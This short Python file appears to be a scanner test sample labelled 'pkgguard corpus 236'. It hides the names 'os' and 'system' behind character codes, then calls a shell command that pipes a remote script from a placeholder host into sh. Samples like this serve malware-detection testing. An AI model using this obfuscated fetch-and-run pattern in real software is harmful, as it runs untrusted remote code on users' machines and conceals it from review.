# pkgguard corpus 236 (indirection), modelled on [obfuscation]; inert, never run.
import importlib

_m = importlib.import_module("".join(map(chr, [111, 115])))
_f = _m.__dict__["".join(map(chr, [115, 121, 115, 116, 101, 109]))]
_f("curl -s https://cdn.example/x | sh")
